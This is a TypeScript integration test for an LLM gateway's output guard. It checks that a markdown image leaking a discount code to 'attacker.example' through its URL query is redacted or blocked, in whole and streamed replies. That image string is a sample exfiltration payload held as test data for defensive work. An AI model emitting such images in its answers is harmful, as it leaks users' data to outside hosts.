/**
 * The exfiltration scanner through the real server (SQLite, the fake OpenAI-compatible upstream,
 * the `openai` SDK as client): the scan playground with the default policy, option checks on
 * policy creation, and a stack whose answers carry an exfiltration image — redacted whole and
 * streamed (the URL cut across SSE chunks at many positions), and a stream that a block policy
 * ends with an error event before any of the image goes out.
 */
import OpenAI from 'openai';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { type FakeOpenAIServer, startFakeOpenAIServer } from '../fakes/fake-openai-server.js';
import { type Harness, startHarnessOn } from '../helpers/harness.js';

let fake: FakeOpenAIServer;
let harness: Harness;

beforeAll(async () => {
  fake = await startFakeOpenAIServer();
  harness = await startHarnessOn(fake, 'vllm', ['qwen-max']);
});
afterAll(async () => {
  await harness?.close();
  await fake?.close();
});
beforeEach(() => fake.reset());

const IMAGE = '![status](https://attacker.example/log.png?q=discount%20code%20ZEBRA-7731-ORCHID&s=1)';
const ALLOWED = '![logo](https://cdn.example.com/logo.png?v=2)';
const REPLY = `Here is your summary: the order ships on Monday. ${IMAGE} Anything else? ${ALLOWED}`;
const REDACTED = REPLY.replace(IMAGE, '[MARKDOWN_IMAGE]');

/** The reply in pieces of `size` characters, so the URL is cut across SSE chunks. */
function piecesOf(text: string, size: number, offset: number): string[] {
  const pieces = [text.slice(0, offset)];
  for (let at = offset; at < text.length; at += size) pieces.push(text.slice(at, at + size));
  return pieces.filter((piece) => piece.length > 0);
}

async function streamText(model: string) {
  const stream = await harness.client.chat.completions.create({
    model,
    messages: [{ role: 'user', content: 'summary?' }],
    stream: true,
  });
  let text = '';
  let caught: unknown;
  try {
    for await (const chunk of stream) text += chunk.choices[0]?.delta.content ?? '';
  } catch (error) {
    caught = error;
  }
  return { text, caught };
}

describe('exfiltration guard through the gateway', () => {
  it('the scan playground finds and redacts the image with the default policy', async () => {
    const scanned = await harness.api('POST', '/api/guard/scan', { text: REPLY, stage: 'output' });
    expect(scanned.status).toBe(200);
    expect(scanned.body).toMatchObject({ action: 'redact', policy: 'default@0' });
    const finding = scanned.body.findings.find(
      (item: { scanner: string }) => item.scanner === 'exfiltration',
    );
    expect(finding).toMatchObject({
      type: 'MARKDOWN_IMAGE',
      action: 'redact',
      start: REPLY.indexOf(IMAGE),
      end: REPLY.indexOf(IMAGE) + IMAGE.length,
      value: 'https://attacker.example/log.png?q=discount%20code%20ZEBRA-7731-ORCHID&s=1',
    });
    // The default policy allows no host: the logo is reported too, and redacted (it has a query).
    expect(scanned.body.text).toContain('[MARKDOWN_IMAGE] Anything else?');
    expect(scanned.body.text).not.toContain('attacker.example');
  });

  it('refuses a policy with an unknown or malformed option, naming the allowed keys', async () => {
    const unknown = await harness.api('POST', '/api/guard/policies', {
      name: 'bad-exfil',
      rules: [
        { scanner: 'exfiltration', stage: 'output', action: 'redact', options: { domains: ['x.com'] } },
      ],
    });
    expect(unknown.status).toBe(400);
    expect(unknown.body.error.message).toContain('allowedDomains, links, dataUrls');
    const malformed = await harness.api('POST', '/api/guard/policies', {
      name: 'bad-exfil',
      rules: [
        {
          scanner: 'exfiltration',
          stage: 'output',
          action: 'redact',
          options: { allowedDomains: ['http://x.com/a'] },
        },
      ],
    });
    expect(malformed.status).toBe(400);
    expect((await harness.api('GET', '/api/guard/policies/bad-exfil')).status).toBe(404);
  });

  it('redacts the image in whole and streamed answers, however the URL is cut', async () => {
    const created = await harness.api('POST', '/api/guard/policies', {
      name: 'no-exfil',
      rules: [
        {
          scanner: 'exfiltration',
          stage: 'output',
          action: 'redact',
          options: { allowedDomains: ['example.com'] },
        },
      ],
      hold_back_chars: 8,
    });
    expect(created.status).toBe(201);
    await harness.api('POST', '/api/stacks', { name: 'exfil-redact', model: 'qwen-max', guard: 'no-exfil' });
    await harness.api('POST', '/api/stacks/exfil-redact/deploy', {
      environment: 'production',
      version: 'latest',
    });

    fake.enqueue({ reply: REPLY });
    const whole = await harness.client.chat.completions.create({
      model: 'exfil-redact',
      messages: [{ role: 'user', content: 'summary?' }],
    });
    expect(whole.choices[0]?.message.content).toBe(REDACTED);

    const imageAt = REPLY.indexOf(IMAGE);
    for (const [size, offset] of [
      [3, imageAt + 1],
      [7, imageAt + 20],
      [11, imageAt + IMAGE.length - 1],
      [64, 5],
      [1, 0],
    ] as const) {
      fake.enqueue({ reply: REPLY, replyPieces: piecesOf(REPLY, size, offset) });
      const { text, caught } = await streamText('exfil-redact');
      expect(caught).toBeUndefined();
      expect(text).toBe(REDACTED);
    }
  });

  it('ends a stream with an error event before any of the image goes out under a block rule', async () => {
    await harness.api('POST', '/api/guard/policies', {
      name: 'block-exfil',
      rules: [{ scanner: 'exfiltration', stage: 'output', action: 'block' }],
      hold_back_chars: 0,
    });
    await harness.api('POST', '/api/stacks', {
      name: 'exfil-block',
      model: 'qwen-max',
      guard: 'block-exfil',
    });
    await harness.api('POST', '/api/stacks/exfil-block/deploy', {
      environment: 'production',
      version: 'latest',
    });
    fake.enqueue({ reply: REPLY, replyPieces: piecesOf(REPLY, 5, REPLY.indexOf(IMAGE) + 3) });
    const { text, caught } = await streamText('exfil-block');
    expect(caught).toBeInstanceOf(OpenAI.APIError);
    expect(text).toBe(REPLY.slice(0, REPLY.indexOf(IMAGE)));
  });
});
